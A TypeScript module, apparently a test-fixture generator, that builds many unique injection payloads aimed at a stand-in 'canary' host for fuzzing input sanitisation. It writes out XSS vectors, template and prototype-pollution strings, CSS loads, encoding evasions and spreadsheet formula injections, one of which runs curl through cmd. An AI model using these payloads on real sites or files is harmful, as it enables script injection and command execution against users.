/** What a payload does if it is ever run: `canary` is a host that must never be asked for anything. */
const deeds = (n: number, canary: string) => [
  `window.__ran=${n}`,
  `alert(${n})`,
  `fetch('${canary}/${n}')`,
  `import('${canary}/${n}.js')`,
  `document.location='${canary}/${n}'`,
]

/** How text becomes code, markup, an address, a style or a formula where somebody forgets that it is text. */
const FORMS: readonly ((deed: string, address: string) => string)[] = [
  (deed) => `<script>${deed}</script>`,
  (_, address) => `<script src="${address}"></script>`,
  (deed) => `"><script>${deed}</script>`,
  (deed) => `'><script>${deed}</script>`,
  (deed) => `</title><script>${deed}</script>`,
  (deed) => `</textarea><script>${deed}</script>`,
  (deed) => `</style><script>${deed}</script>`,
  (deed) => `--><script>${deed}</script>`,
  (deed) => `<img src=x onerror="${deed}">`,
  (_, address) => `<img src="${address}">`,
  (deed) => `" onmouseover="${deed}" autofocus onfocus="${deed}`,
  (deed) => `' onfocus='${deed}' autofocus tabindex='0`,
  (deed) => `<svg onload="${deed}">`,
  (deed) => `<svg><script>${deed}</script></svg>`,
  (deed) => `<svg><animate onbegin="${deed}" attributeName=x dur=1s>`,
  (_, address) => `<svg><image href="${address}"/></svg>`,
  (_, address) => `<svg><use href="${address}#a"/></svg>`,
  (deed) => `<math><mtext><img src=x onerror="${deed}"></mtext></math>`,
  (deed) => `<iframe srcdoc="<script>parent.${deed}</script>"></iframe>`,
  (_, address) => `<iframe src="${address}"></iframe>`,
  (deed) => `<details open ontoggle="${deed}">`,
  (deed) => `<video><source onerror="${deed}"></video>`,
  (deed) => `<body onload="${deed}">`,
  (deed) => `<input autofocus onfocus="${deed}">`,
  (deed) => `<marquee onstart="${deed}">`,
  (_, address) => `<link rel="stylesheet" href="${address}">`,
  (_, address) => `<meta http-equiv="refresh" content="0;url=${address}">`,
  (_, address) => `<base href="${address}/">`,
  (_, address) => `<object data="${address}"></object>`,
  (_, address) => `<form action="${address}"><button autofocus>`,
  (deed) => `javascript:${deed}`,
  (deed) => `JaVaScRiPt\t:${deed}`,
  (deed) => `data:text/html,<script>${deed}</script>`,
  (_, address) => `//${address.replace(/^https?:\/\//, '')}`,
  (deed) => `{{constructor.constructor("${deed}")()}}`,
  (deed) => `\${${deed}}`,
  (deed) => `<%= ${deed} %>`,
  (deed) => `";${deed};//`,
  (deed) => `');${deed};//`,
  (deed) => `\u2028${deed}\u2029`,
  (_, address) => `}*{background:url(${address})}`,
  (_, address) => `red;background-image:url(${address})`,
  (_, address) => `@import "${address}";`,
  (deed) => `=HYPERLINK("javascript:${deed}","x")`,
  (_, address) => `@SUM(WEBSERVICE("${address}"))`,
  (_, address) => `+cmd|'/c curl ${address}'!A0`,
  (_, address) => `-2+3+WEBSERVICE("${address}")`,
  (_, address) => `\t=IMPORTXML("${address}","//a")`,
  (deed) => `\u202e<script>${deed}</script>\u202c`,
  (deed) => `\ufeff\u200b<img src=x onerror=${deed}>`,
  (deed) => `＜script＞${deed}＜/script＞`,
  (deed) => `&lt;script&gt;${deed}&lt;/script&gt;`,
  (deed) => `%3Cscript%3E${deed}%3C/script%3E`,
  (deed) => `\\u003cscript\\u003e${deed}\\u003c/script\\u003e`,
  (deed) => `<scr<script>ipt>${deed}</scr</script>ipt>`,
  (deed) => `<a href="javascript:${deed}">${'x'.repeat(300)}</a>`,
  (deed) => `[x](javascript:${deed})`,
  (deed) => `__proto__[x]=${deed}`,
  (deed) => `constructor<img src=x onerror=${deed}>`,
  (deed) => `${'👩‍👩‍👧‍👦Z͑ͫ̓ͪ̂ͫ̽͏'.repeat(8)}<img src=x onerror=${deed}>`,
]

/** So many payloads, each another one. The last characters of a cut one are not missed: forms begin with what hurts. */
export function hostilePayloads(count: number, canary: string): string[] {
  const payloads = Array.from({ length: count }, (_, n) => {
    const round = Math.floor(n / FORMS.length)
    const each = deeds(n, canary)
    return FORMS[n % FORMS.length]!(each[round % each.length]!, `${canary}/${n}`)
  })
  if (new Set(payloads).size !== count) throw new Error('Two of the payloads are the same.')
  return payloads
}
